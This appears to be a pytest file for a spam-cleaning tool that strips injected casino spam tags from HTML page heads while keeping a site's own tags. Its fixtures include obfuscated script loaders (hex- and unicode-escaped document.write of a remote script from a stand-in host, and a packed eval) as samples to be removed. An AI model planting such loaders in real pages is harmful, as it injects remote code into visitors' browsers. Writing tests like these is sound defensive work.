"""What comes with spam in a head: tags that say the same, proofs of ownership, loaders, and the title itself."""

from __future__ import annotations

import pytest

from spamguard.removal.splice import splice
from tests.examine.scenes import plans_for

PAGE = (
    b"<html>\n<head>\n%s<title>%s</title>\n%s</head>\n<body>\n"
    b'<p>The library opens at nine. <a href="https://library.example.org/">Read here.</a></p>\n</body>\n</html>\n'
)
TITLE = b"Village library"
AMP = b'<link rel="amphtml" href="https://amp.rajaslot.example.net/x/">'
PROOF = b'<meta name="google-site-verification" content="Qx3fT8">'
ECHO = b'<meta name="twitter:title" content="Rajaslot poker bonus">'
OG = b'<meta property="og:title" content="Rajaslot casino slots poker bonus">'


def _cut(data: bytes, *texts: bytes) -> tuple[bytes, str | None]:
    """The page without the block that some texts make, and the doubt about it."""
    spans = [(data.index(text), data.index(text) + len(text)) for text in texts]
    page, plans = plans_for(data, [(spans[0][0], spans[-1][1])] if len(spans) == 1 else spans)
    edits = sorted({edit for plan in plans for edit in plan.edits})
    return splice(page.raw, edits, page.codec), next((plan.doubt for plan in plans if plan.doubt), None)


@pytest.mark.parametrize(
    "tags",
    [
        [AMP, PROOF, OG],
        [PROOF, AMP, OG],
        [AMP, OG, PROOF],
        [AMP, b'<meta name="page search" content="rajaslot">', OG],
        [AMP, b'<meta name="robots" content="index, follow">', OG],
        [b'<link rel="canonical" href="https://rajaslot-id.example.net/">', OG],
        [OG, b'<meta property="og:url" content="https://rajaslot.example.com/">'],
        [OG, ECHO],
    ],
    ids=["proof between", "proof first", "proof last", "echo", "setting", "canonical", "address", "told twice"],
)
@pytest.mark.parametrize("indent", [b"", b"  "])
def test_tags_that_came_along_go(tags: list[bytes], indent: bytes) -> None:
    indent = b"" if tags[0] == PROOF else indent
    spam = b"".join(indent + tag + b"\n" for tag in tags)
    data = PAGE % (spam, TITLE, b"") if tags[0] == PROOF else PAGE % (b"", TITLE, spam)
    assert _cut(data, b"Rajaslot casino slots poker bonus") == (PAGE % (b"", TITLE, b""), None)


@pytest.mark.parametrize(
    "own",
    [
        PROOF,
        b'<link rel="canonical" href="https://library.example.org/">',
        b'<meta name="author" content="Town of Sampleton">',
        b'<meta property="og:url" content="https://library.example.org/">',
        b'<link rel="canonical" href="https://first.example.com/story">',
    ],
    ids=["proof", "canonical", "author", "address", "where the story was first"],
)
def test_the_sites_own_tags_beside_spam_stay(own: bytes) -> None:
    data = PAGE % (own + b"\n" + OG + b"\n", TITLE, b"")
    assert _cut(data, b"Rajaslot casino slots poker bonus") == (PAGE % (own + b"\n", TITLE, b""), None)


LOADERS = [
    (
        rb"""<script>window["\x64\x6f\x63\x75\x6d\x65\x6e\x74"]["\x77\x72\x69\x74\x65"]"""
        rb"""('<scr'+'ipt src="//a.example.net/t.js"></scr'+'ipt>')</script>"""
    ),
    (
        rb"""<script>window["\u0064\u006f\u0063\u0075\u006d\u0065\u006e\u0074"].body.lastChild.src="""
        rb""""//a.example.net/t.js"</script>"""
    ),
    b"<script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script>",
]


@pytest.mark.parametrize("loader", LOADERS, ids=["hexadecimal", "units", "packed"])
def test_a_loader_between_spam_and_title_goes(loader: bytes) -> None:
    data = PAGE % (OG + b"\n" + loader + b"\n", TITLE, b"")
    assert _cut(data, b"Rajaslot casino slots poker bonus") == (PAGE % (b"", TITLE, b""), None)


@pytest.mark.parametrize(
    "script",
    [
        b"<script>document.write('<script src=\"/own.js\"><\\/script>')</script>",
        rb"<script>var dash='\u2013';document.title+=dash</script>",
    ],
)
def test_a_plain_script_beside_spam_stays(script: bytes) -> None:
    data = PAGE % (OG + b"\n" + script + b"\n", TITLE, b"")
    assert _cut(data, b"Rajaslot casino slots poker bonus") == (PAGE % (script + b"\n", TITLE, b""), None)


def test_a_title_that_social_sites_are_told_is_proposed_and_not_put_in_unasked() -> None:
    told = b'<meta property="og:title" content="Village &amp; town library">\n'
    result, doubt = _cut(PAGE % (told, b"casino slots poker bonus", b""), b"casino slots poker bonus")
    assert result == PAGE % (told, b"Village & town library", b"")
    assert doubt is not None
    assert "og:title" in doubt


def test_a_title_that_says_what_the_spam_says_is_not_proposed() -> None:
    told = b'<meta property="og:title" content="casino slots poker bonus here">\n'
    result, doubt = _cut(PAGE % (told, b"casino slots poker bonus", b""), b"<title>casino slots poker bonus")
    assert (result, doubt) == (PAGE % (told, b"", b""), "nothing on the page tells the true title")


LONG = (
    b"<p>The library opens at nine in the morning and closes at five. Bring your card with you when you come for the "
    b"first time, and ask at the desk for the list of books that we have bought in the spring. The reading room on the "
    b"upper floor is warm and bright. Who likes to sew or sing is welcome there on Mondays, whatever her age may be. "
    b"Our cat sleeps under a table near an old window, so please do not feed him: he gets fat, says Mr. Weber, who "
    b"knows every animal of this village by name. Since last autumn we lend tools, games, records and seeds; bring "
    b"them back clean, dry and complete within two weeks. Children under six pay nothing, pupils half, and adults the "
    b"full price of one crown.</p>\n"
)


@pytest.mark.parametrize(
    "said",
    [
        "Die ganze Nacht durchhalten, Zahlung per Bitcoin und dreißig Gratispillen, Versand sofort.",
        "Можно оплатить картой, доставка курьером за два дня без предоплаты.",
        "ไม่มีเวลาเรียน เป็นความลับ จ่ายจริงทุกยอด สแกนคิวอาร์โค้ด",
        "本站提供最新地址，注册即送彩金，提款三分钟到账。",
    ],
    ids=["de", "ru", "th", "zh"],
)
@pytest.mark.parametrize("name", [b'name="description"', b'property="og:description"', b'name="twitter:description"'])
@pytest.mark.parametrize("first", [False, True])
def test_a_description_of_which_the_page_has_no_word_goes_with_the_spam_beside_it(
    said: str, name: bytes, first: bool
) -> None:
    page = (PAGE % (b"", TITLE, b"%s")).replace(b"<p>The library", LONG + b"<p>The library")
    tags = [OG, b"<meta " + name + b' content="' + said.encode() + b'">']
    spam = b"".join(tag + b"\n" for tag in (tags[::-1] if first else tags))
    assert _cut(page % spam, b"Rajaslot casino slots poker bonus") == (page % b"", None)


@pytest.mark.parametrize(
    "said",
    [
        b"The library of the village, open every day but Sundays.",
        b"Bring your card and ask at the desk for tools and games.",
        b"Village library",
        b"Dorfbibliothek",
    ],
)
def test_a_description_in_the_words_of_the_page_stays(said: bytes) -> None:
    page = (PAGE % (b"", TITLE, b"%s")).replace(b"<p>The library", LONG + b"<p>The library")
    own = b'<meta name="description" content="' + said + b'">\n'
    assert _cut(page % (own + OG + b"\n"), b"Rajaslot casino slots poker bonus") == (page % own, None)


def test_on_a_page_of_few_words_a_description_stays() -> None:
    own = b'<meta name="description" content="Unser Dorf hat seit hundert Jahren eine sch\xc3\xb6ne Bibliothek.">\n'
    page = PAGE % (b"", TITLE, b"%s")
    assert _cut(page % (own + OG + b"\n"), b"Rajaslot casino slots poker bonus") == (page % own, None)


def test_a_name_below_a_shared_domain_is_a_site_of_its_own() -> None:
    """The page leads to another name below the domain of the AMP page: that is somebody else's."""
    page = PAGE.replace(b"<p>The", b'<p><a href="https://news.example.net/">News.</a> The')
    spam = AMP + b"\n" + PROOF + b"\n" + OG + b"\n"
    cut = _cut(page % (b"", TITLE, spam), b"Rajaslot casino slots poker bonus")
    assert cut == (page % (b"", TITLE, b""), None)


def test_a_kit_that_only_proves_and_leads_away_goes_whole() -> None:
    proofs = PROOF + b"\n" + b'<meta name="page google.com" content="raja">\n'
    spam = proofs + b'<link rel="canonical" href="https://perpus.example.org/x/">\n' + AMP + b"\n" + OG + b"\n"
    cut = _cut(PAGE % (spam, TITLE, b""), b"Rajaslot casino slots poker bonus")
    assert cut == (PAGE % (b"", TITLE, b""), None)


@pytest.mark.parametrize("end", [b"", b'<link rel="stylesheet" href="/site.css">\n'])
def test_what_follows_indented_tags_is_set_as_the_page_sets_it(end: bytes) -> None:
    spam = b"".join(b"  " + tag + b"\n" for tag in (AMP, PROOF, PROOF, OG, ECHO))
    cut = _cut(PAGE % (b"", TITLE, end + spam), b"Rajaslot casino slots poker bonus")
    assert cut == (PAGE % (b"", TITLE, end), None)


STROKE_AMP = b'<link href="https://amp.rajaslot.example.net/win/" rel="amphtml" />'
STROKE_OG = b'<meta content="Rajaslot casino slots poker bonus" property="og:title" />'


def test_an_address_in_the_hand_and_with_the_path_of_the_others_goes_at_an_end() -> None:
    moved = b'<link href="https://raja.example.com/win/" rel="canonical" />'
    spam = b"".join(b"\t" + tag + b"\n" for tag in (moved, STROKE_AMP, STROKE_OG))
    own = b'<meta charset="utf-8">\n'
    honest = PAGE % (own, TITLE, b"")
    assert _cut(PAGE % (own, TITLE, spam), b"Rajaslot casino slots poker bonus") == (honest, None)


@pytest.mark.parametrize(
    ("moved", "own"),
    [
        (b'<link href="https://raja.example.com/looms/" rel="canonical" />', b'<meta charset="utf-8">\n'),
        (b'<link href="https://raja.example.com/win/" rel="canonical">', b'<meta charset="utf-8">\n'),
        (b'<link href="https://raja.example.com/win/" rel="canonical" />', b'\t<meta charset="utf-8" />\n'),
    ],
    ids=["another path", "another hand", "the hand of the page"],
)
def test_an_address_that_may_be_the_pages_own_stays_at_an_end(moved: bytes, own: bytes) -> None:
    spam = b"".join(b"\t" + tag + b"\n" for tag in (moved, STROKE_AMP, STROKE_OG))
    assert moved in _cut(PAGE % (own, TITLE, spam), b"Rajaslot casino slots poker bonus")[0]
